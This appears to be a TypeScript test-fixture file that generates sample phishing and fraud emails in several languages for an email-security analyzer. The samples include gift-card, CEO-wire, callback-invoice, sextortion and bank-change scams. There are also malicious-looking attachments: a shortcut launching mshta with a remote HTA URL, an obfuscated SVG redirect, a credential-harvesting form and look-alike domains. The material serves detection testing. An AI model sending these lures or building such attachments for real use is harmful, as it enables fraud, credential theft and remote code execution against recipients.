import { makePe } from '../../../analyzers/src/executable/program-samples.ts'
import { type Entry, sampleFiles, sentences } from '../entry.ts'
import { type Letter, letter, signedLetter } from './mime.ts'
import { asPng, codeRaster } from './pictures.ts'
import { shellLink } from './shell-link.ts'
import { zip } from './zip.ts'

const lures = (
  family: string,
  reason: RegExp,
  all: readonly (readonly [name: string, letter: Letter])[],
) =>
  sampleFiles(
    'mail',
    family,
    reason,
    all.map(([name, parts]) => [`${name}.eml`, letter(parts)]),
  )
const link = (address: string, shown: string) => `<a href="${address}">${shown}</a>`
const body = (...parts: readonly string[]) =>
  `<html><body>${parts.map((part) => `<p>${part}</p>`).join('\n')}</body></html>`

/** From a mailbox that anyone can have, so only the words give it away. */
const free = (name: string, local: string): Pick<Letter, 'from' | 'signed' | 'by'> => ({
  from: `${name} <${local}@gmail.com>`,
  signed: 'gmail.com',
  by: 'mail-ej1-f41.google.com',
})
const mail = /^(?:mail|text|url|domain)\./

const words: Entry[] = [
  ...lures('lure: gift cards', mail, [
    [
      'english',
      {
        ...free('Robert Steel', 'ceo.office.private'),
        subject: 'Quick task',
        text: 'Hi Jane,\n\nAre you at your desk? I need you to get some Apple gift cards for a client, 5 pieces of $100 each. I am in a meeting and cannot talk. Scratch off the back and send me pictures of the codes. Keep this between us, I will reimburse you today.\n\nRobert Steel\nCEO\nSent from my iPhone',
      },
    ],
    [
      'german',
      {
        ...free('Robert Stahl', 'r.stahl.privat'),
        subject: 'Dringend',
        text: 'Hallo Jane,\n\nsind Sie gerade im Büro? Ich brauche dringend 5 Google-Play-Geschenkkarten zu je 100 Euro für einen Kunden. Bitte kaufen Sie sie, rubbeln Sie die Codes frei und schicken Sie mir Fotos davon. Ich bin in einer Besprechung und kann nicht telefonieren. Bitte behandeln Sie das vertraulich.\n\nRobert Stahl\nGeschäftsführer',
      },
    ],
    [
      'french',
      {
        ...free('Robert Acier', 'direction.generale.pro'),
        subject: 'Service urgent',
        text: "Bonjour Jane,\n\nÊtes-vous disponible ? J'ai besoin que vous achetiez 6 cartes cadeaux Apple de 100 € pour un client. Grattez les codes et envoyez-moi les photos par retour de mail. Je suis en réunion, ne m'appelez pas, et gardez cela confidentiel.\n\nRobert Acier\nDirecteur général",
      },
    ],
    [
      'spanish',
      {
        ...free('Roberto Acero', 'gerencia.privada'),
        subject: 'Favor urgente',
        text: 'Hola Jane:\n\n¿Estás en la oficina? Necesito que compres 5 tarjetas de regalo de Amazon de 100 € para un cliente. Rasca los códigos y envíame las fotos por correo. Estoy en una reunión y no puedo hablar por teléfono. Es confidencial.\n\nRoberto Acero\nDirector general',
      },
    ],
    [
      'second english',
      {
        ...free('Pastor Mark', 'pastor.mark.office'),
        subject: 'Favour needed',
        text: 'Good morning, can you do me a favour? I want to surprise some of the staff with Steam cards. Could you purchase ten cards at $50 face value at the nearest store, scratch the silver panel and email me the codes? Let me know how soon you can get it done.',
      },
    ],
  ]),
  ...lures('lure: invoice with a number to call', mail, [
    [
      'english',
      {
        ...free('Billing Department', 'billing.norton.renew'),
        subject: 'Order confirmation NRT-88123',
        text: 'Dear customer,\n\nThank you for your order. Your subscription NORTON 360 has been renewed for 3 years and $399.99 will be debited from your account within 24 hours.\n\nIf you did not authorize this charge, call our refund department immediately at +1 (808) 555-0142.\n\nBilling team',
      },
    ],
    [
      'geek',
      {
        ...free('Geek Squad', 'geeksquad.invoice77'),
        subject: 'Invoice 77-1234 paid',
        text: 'Invoice No: 77-1234\nProduct: Geek Squad Total Protection\nAmount: 449.00 USD\nPayment: auto debit\n\nTo cancel this subscription and get a refund contact our support desk toll free 1-888-555-0177 within 12 hours.',
      },
    ],
    [
      'german',
      {
        ...free('Kundenservice', 'rechnung.paypal.service'),
        subject: 'Rechnung 88123',
        text: 'Sehr geehrter Kunde,\n\nvielen Dank für Ihren Kauf. Ihr Konto wird heute mit 499,99 EUR für Bitcoin belastet. Wenn Sie diese Zahlung nicht veranlasst haben, rufen Sie sofort unsere Stornierungsabteilung an: +49 30 5550142.\n\nIhr Abrechnungsteam',
      },
    ],
    [
      'french',
      {
        ...free('Service facturation', 'facturation.antivirus'),
        subject: 'Confirmation de commande',
        text: "Cher client,\n\nVotre abonnement McAfee a été renouvelé automatiquement pour 349,99 €. Le montant sera débité de votre compte sous 24 heures. Si vous n'êtes pas à l'origine de cet achat, appelez immédiatement notre service de remboursement au +33 1 55 50 01 42.",
      },
    ],
    [
      'spanish',
      {
        ...free('Facturación', 'facturas.soporte'),
        subject: 'Factura pagada',
        text: 'Estimado cliente:\n\nSu suscripción a Norton se ha renovado por 389,99 €. El importe se cargará en su cuenta en 24 horas. Si no ha autorizado este cargo, llame de inmediato a nuestro departamento de reembolsos: +34 915 550 142.',
      },
    ],
  ]),
  ...lures('lure: extortion', mail, [
    [
      'english',
      {
        from: 'you <jane.doe@corp.example>',
        signed: false,
        subject: 'Your account has been hacked',
        text: 'Hello!\n\nI have bad news. I hacked your operating system and have full access to your device. I recorded you through your webcam while you visited adult websites. If you do not want me to send the video to all your contacts, transfer $950 in Bitcoin to my wallet: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours. Do not contact the police.',
      },
    ],
    [
      'german',
      {
        ...free('Hacker', 'xx77dd11'),
        subject: 'Ich habe Ihr Gerät gehackt',
        text: 'Guten Tag,\n\nich habe einen Trojaner auf Ihrem Gerät installiert und Sie über Ihre Kamera gefilmt, während Sie Erwachsenenseiten besuchten. Überweisen Sie 1200 Euro in Bitcoin an meine Wallet 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2, sonst schicke ich das Video an alle Ihre Kontakte. Sie haben 48 Stunden.',
      },
    ],
    [
      'french',
      {
        ...free('Inconnu', 'zz99pp00'),
        subject: 'Votre appareil est piraté',
        text: "Bonjour,\n\nj'ai piraté votre ordinateur et je vous ai filmé avec votre webcam pendant que vous regardiez des sites pour adultes. Envoyez 900 € en Bitcoin à cette adresse : 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2. Sinon j'enverrai la vidéo à tous vos contacts. Vous avez 48 heures.",
      },
    ],
    [
      'spanish',
      {
        ...free('Desconocido', 'qq11ww22'),
        subject: 'He hackeado tu dispositivo',
        text: 'Hola:\n\nhe instalado un troyano en tu dispositivo y te he grabado con tu cámara mientras visitabas páginas para adultos. Envía 1000 dólares en Bitcoin a mi monedero bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh o enviaré el vídeo a todos tus contactos. Tienes 48 horas.',
      },
    ],
    [
      'bomb',
      {
        ...free('Group', 'ransom.group.77'),
        subject: 'Your company data',
        text: 'We have downloaded 300 GB of your company data and encrypted your backups. Pay 3 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 72 hours or we publish everything and start a DDoS attack on your network.',
      },
    ],
  ]),
  ...lures('lure: thread taken over, new bank account', mail, [
    [
      'english',
      {
        from: 'Vera Supplier <vera@supp1ier-trade.example.net>',
        subject: 'Re: Re: Invoice 881',
        headers: [
          'In-Reply-To: <a1@corp.example>',
          'References: <a1@corp.example>',
          'Reply-To: vera.accounts@outlook.com',
        ],
        text: 'Dear Jane,\n\nplease note that our bank details have changed due to an audit. Kindly send the payment for invoice 881 to our new account: IBAN GB29 NWBK 6016 1331 9268 19. Do not use the old account anymore. Please confirm when the transfer is done.\n\nVera\n\n> On 31 May 2026 Jane wrote:\n> we pay on Friday\n',
      },
    ],
    [
      'german',
      {
        from: 'Vera Lieferant <vera@lieferant-handel.example.net>',
        subject: 'AW: Rechnung 881',
        headers: ['In-Reply-To: <a1@corp.example>', 'Reply-To: vera.buchhaltung@gmx.net'],
        text: 'Hallo Jane,\n\nunsere Bankverbindung hat sich geändert. Bitte überweisen Sie den Betrag der Rechnung 881 noch heute auf das neue Konto: IBAN DE89 3704 0044 0532 0130 00. Das alte Konto ist gesperrt.\n\nVera\n\nAm 31.05.2026 schrieb Jane:\n> wir zahlen am Freitag',
      },
    ],
    [
      'french',
      {
        from: 'Véra Fournisseur <vera@fournisseur.example.net>',
        subject: 'RE: Facture 881',
        headers: ['In-Reply-To: <a1@corp.example>', 'Reply-To: vera.compta@outlook.fr'],
        text: "Bonjour Jane,\n\nnos coordonnées bancaires ont changé. Merci d'effectuer le virement de la facture 881 sur notre nouveau compte : IBAN FR14 2004 1010 0505 0001 3M02 606. N'utilisez plus l'ancien compte.\n\nVéra\n\nLe 31 mai 2026, Jane a écrit :\n> nous payons vendredi",
      },
    ],
    [
      'spanish',
      {
        from: 'Vera Proveedora <vera@proveedora.example.net>',
        subject: 'RE: Factura 881',
        headers: ['In-Reply-To: <a1@corp.example>', 'Reply-To: vera.cuentas@outlook.es'],
        text: 'Hola Jane:\n\nnuestros datos bancarios han cambiado. Le ruego que transfiera el importe de la factura 881 a la nueva cuenta: IBAN ES91 2100 0418 4502 0005 1332. No utilice la cuenta anterior.\n\nVera\n\nEl 31 de mayo Jane escribió:\n> pagamos el viernes',
      },
    ],
  ]),
  ...lures('lure: payment ordered by the boss', mail, [
    [
      'english',
      {
        ...free('Robert Steel', 'robert.steel.ceo'),
        subject: 'Wire transfer',
        text: 'Jane,\n\nI need you to process an urgent wire transfer of 48,500 EUR today for an acquisition. It is strictly confidential, do not discuss it with anyone. Tell me when you are ready and I send you the bank details.\n\nRobert Steel, CEO',
      },
    ],
    [
      'german',
      {
        ...free('Robert Stahl', 'vorstand.stahl'),
        subject: 'Vertrauliche Überweisung',
        text: 'Frau Doe,\n\nbitte veranlassen Sie heute noch eine dringende Überweisung über 48.500 Euro für eine Übernahme. Die Sache ist streng vertraulich, sprechen Sie mit niemandem darüber. Ich bin telefonisch nicht erreichbar. Die Bankdaten folgen.\n\nRobert Stahl\nVorstand',
      },
    ],
    [
      'french',
      {
        ...free('Robert Acier', 'pdg.acier'),
        subject: 'Virement confidentiel',
        text: "Jane,\n\nj'ai besoin que vous fassiez aujourd'hui un virement urgent de 48 500 € pour une acquisition. C'est strictement confidentiel, n'en parlez à personne. Je ne suis pas joignable par téléphone.\n\nRobert Acier, PDG",
      },
    ],
    [
      'payroll',
      {
        ...free('Sam Worker', 'sam.worker.home'),
        subject: 'Direct deposit',
        text: 'Hi,\n\nI changed my bank and would like to update my direct deposit before the next payroll. Can you change it to this account? Routing 021000021, account 123456789. Will it be effective for the current pay date?\n\nSam Worker',
      },
    ],
  ]),
]

const smime: Entry[] = sampleFiles('mail', 'signed content was changed (S/MIME)', mail, [
  [
    'account.eml',
    signedLetter(
      { from: 'Kim <kim@corp.example>', subject: 'Payment' },
      'Please pay to CH93 0076 2011 6238 5295 7.',
      'Please pay to GB29 NWBK 6016 1331 9268 19.',
    ),
  ],
  [
    'amount.eml',
    signedLetter(
      { from: 'Lou <lou@corp.example>', subject: 'Contract' },
      'We agree to 10,000 euros.',
      'We agree to 90,000 euros.',
    ),
  ],
])

const program = makePe()
const packed = (password: string) =>
  zip({ 'document.js': 'WScript.Echo(1)', 'a.txt': 'x'.repeat(99) }, { password })
const told = (name: string, text: string, password: string): readonly [string, Letter] => [
  name,
  {
    from: 'Offers <offers@trade.example.net>',
    subject: 'Document',
    text,
    files: [{ name: 'document.zip', content: packed(password) }],
  },
]
const archive = /^(?:archive|mail|script|file)\./

const attachments: Entry[] = [
  ...lures('password told in the mail', archive, [
    told('english', 'Please see the attached file.\nThe password is: 7741-AB', '7741-AB'),
    told('german', 'Anbei das Dokument.\nDas Passwort lautet 8812xy', '8812xy'),
    told(
      'french',
      'Veuillez trouver le document ci-joint.\nLe mot de passe du fichier est : doc2026',
      'doc2026',
    ),
    told('spanish', 'Adjunto el documento.\nLa contraseña del archivo es 4471zz', '4471zz'),
    told(
      'italian',
      'In allegato il documento.\nLa password per aprire il file è: 9981it',
      '9981it',
    ),
    told('italian second', 'In allegato il documento.\nParola chiave: giugno26', 'giugno26'),
    told('portuguese', 'Segue em anexo o documento.\nA senha do arquivo é 5512pt', '5512pt'),
    told('dutch', 'Zie de bijlage.\nHet wachtwoord is: nl7788', 'nl7788'),
    told('polish', 'W załączniku dokument.\nHasło do pliku: pl3344', 'pl3344'),
    told('turkish', 'Belge ektedir.\nŞifre: tr9090', 'tr9090'),
    told('russian', 'Документ во вложении.\nПароль: ru4455', 'ru4455'),
    told('swedish', 'Se bifogad fil.\nLösenordet är sv6677', 'sv6677'),
  ]),
  ...lures(
    'attachment that runs',
    /^(?:mail|archive|file|script|shortcut|page|onenote|executable)\./,
    [
      [
        'double',
        {
          from: 'Sales <sales@trade.example.net>',
          subject: 'Order',
          text: 'See order.',
          files: [{ name: 'Order.pdf.exe', content: program }],
        },
      ],
      [
        'screen saver',
        {
          from: 'HR <hr@trade.example.net>',
          subject: 'Photos',
          text: 'Party.',
          files: [{ name: 'photos.scr', content: program }],
        },
      ],
      [
        'script in zip',
        {
          from: 'Post <info@parcel.example.net>',
          subject: 'Parcel',
          text: 'Your label.',
          files: [{ name: 'label.zip', content: zip({ 'label.pdf.vbs': 'MsgBox 1' }) }],
        },
      ],
      [
        'shortcut in zip',
        {
          from: 'Legal <legal@trade.example.net>',
          subject: 'Claim',
          text: 'Copy of claim.',
          files: [
            {
              name: 'claim.zip',
              content: zip({
                'claim.pdf.lnk': shellLink({
                  target: 'C:\\Windows\\System32\\mshta.exe',
                  args: 'http://files.example.net/a.hta',
                }),
              }),
            },
          ],
        },
      ],
      [
        'page',
        {
          from: 'Voicemail <vm@pbx.example.net>',
          subject: 'New voice message',
          text: '00:32',
          files: [
            {
              name: 'VM_0032.html',
              content:
                '<html><title>Microsoft 365</title><form action="https://collect.example.net/p" method="post"><input type="email" value="jane.doe@corp.example"><input type="password"></form></html>',
            },
          ],
        },
      ],
      [
        'svg',
        {
          from: 'Scan <scan@printer.example.net>',
          subject: 'Scan',
          text: 'Scanned.',
          files: [
            {
              name: 'scan.svg',
              content:
                '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0Lw==")</script></svg>',
            },
          ],
        },
      ],
      [
        'hta',
        {
          from: 'Tax <tax@office.example.net>',
          subject: 'Refund',
          text: 'Refund form.',
          files: [
            {
              name: 'refund.hta',
              content:
                '<html><hta:application/><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script></html>',
            },
          ],
        },
      ],
    ],
  ),
]

const phishing: Entry[] = [
  ...lures('link shows one host and leads to another', mail, [
    [
      'bank',
      {
        from: 'Security <alerts@notice-center.example.net>',
        subject: 'Confirm your account',
        html: body(
          'Dear customer, confirm your account:',
          link('http://1.2.3.4/login.php', 'https://www.postfinance.ch/login'),
        ),
      },
    ],
    [
      'parcel',
      {
        from: 'Delivery <info@parcel-info.example.net>',
        subject: 'Your parcel waits',
        html: body('Pay the fee of 1.99:', link('https://pay.example.net/dhl', 'www.dhl.de/paket')),
      },
    ],
    [
      'authenticated',
      {
        from: 'Team <team@marketing.example.net>',
        subject: 'Document shared',
        headers: ['List-Unsubscribe: <https://marketing.example.net/u>'],
        html: body(
          'Open the document:',
          link('https://files.example.net/x', 'https://acme.sharepoint.com/doc'),
        ),
      },
    ],
    [
      'tracker of another brand',
      {
        from: 'News <news@mailer.example.net>',
        by: 'o3.ptr4321.sendgrid.net',
        subject: 'Action required',
        headers: ['X-SG-EID: abc', 'List-Unsubscribe: <https://mailer.example.net/u>'],
        html: body(
          'Sign in:',
          link(
            'https://u1234567.ct.sendgrid.net/ls/click?upn=u001.abc',
            'https://www.paypal.com/signin',
          ),
        ),
      },
    ],
  ]),
  ...lures('sender poses as a brand', mail, [
    [
      'microsoft',
      {
        from: '"Microsoft 365 Security" <admin@yoga-studio.example.net>',
        subject: 'Password expires today',
        html: body('Keep your password:', link('https://keep.example.net/x', 'Keep password')),
      },
    ],
    [
      'paypal',
      {
        from: '"PayPal Service" <service.paypal.team@gmail.com>',
        signed: 'gmail.com',
        subject: 'Payment sent',
        text: 'You sent 899.00 USD to Crypto Store. Log in to cancel: https://cancel.example.net/pp',
      },
    ],
    [
      'look-alike',
      {
        from: 'Accounts <billing@rnicrosoft.com>',
        subject: 'Invoice',
        text: 'Your invoice is ready.',
      },
    ],
    [
      'apple',
      {
        from: 'Apple Support <no-reply@app1e.com>',
        subject: 'Your Apple ID is locked',
        html: body(link('https://app1e.com/unlock', 'Unlock')),
      },
    ],
    [
      'banque postale',
      {
        from: '"La Banque Postale" <contact@labanquepostale-securite.example.net>',
        subject: 'Certicode Plus',
        html: body(
          'Activez votre Certicode Plus',
          link('https://labanquepostale-securite.example.net/c', 'Activer'),
        ),
      },
    ],
    [
      'orange',
      {
        from: '"Orange" <facture@espace-orange.example.net>',
        subject: 'Facture impayée',
        html: body(
          'Votre ligne sera suspendue.',
          link('https://espace-orange.example.net/p', 'Payer ma facture'),
        ),
      },
    ],
    [
      'shown address',
      {
        from: '"security@postfinance.ch" <x7@mailer.example.net>',
        subject: 'Sperrung',
        text: 'Ihr Konto wird gesperrt.',
      },
    ],
    [
      'failed checks',
      {
        from: 'DHL <noreply@dhl.de>',
        signed: false,
        headers: [
          'Authentication-Results: mx.corp.example; spf=fail smtp.mailfrom=dhl.de; dkim=none; dmarc=fail (p=reject) header.from=dhl.de',
        ],
        subject: 'Paket',
        text: 'Ihr Paket wartet.',
      },
    ],
  ]),
  ...lures('code to scan', /^(?:qr|mail|url|domain)\./, [
    [
      'mfa',
      {
        from: 'IT Service <it@helpdesk.example.net>',
        subject: 'MFA expires',
        text: 'Scan the code in the attachment with your telephone.',
        files: [
          {
            name: 'mfa.png',
            content: asPng(codeRaster('https://login.rnicrosoft.com/mfa?u=jane.doe@corp.example')),
            type: 'image/png',
          },
        ],
      },
    ],
    [
      'payroll',
      {
        from: 'HR <hr@benefits.example.net>',
        subject: 'Salary 2026',
        text: 'Scan to view.',
        files: [
          {
            name: 'salary.png',
            content: asPng(codeRaster('https://www.paypa1.com/hr')),
            type: 'image/png',
          },
        ],
      },
    ],
  ]),
  ...lures('form in the mail', mail, [
    [
      'form',
      {
        from: 'Mailbox <quota@storage.example.net>',
        subject: 'Mailbox full',
        html: body(
          'Verify:',
          '<form action="https://collect.example.net/p"><input name="u"><input type="password" name="p"><input type="submit"></form>',
        ),
      },
    ],
    [
      'script link',
      {
        from: 'Docs <docs@share.example.net>',
        subject: 'Doc',
        html: body(link('javascript:location=1', 'Open')),
      },
    ],
    [
      'two senders',
      {
        from: 'Jane <jane@corp.example>',
        headers: ['From: Other <other@trade.example.net>'],
        subject: 'x',
        text: sentences(1).join(''),
      },
    ],
  ]),
]

export const lureEntries = (): Entry[] => [...words, ...smime, ...attachments, ...phishing]
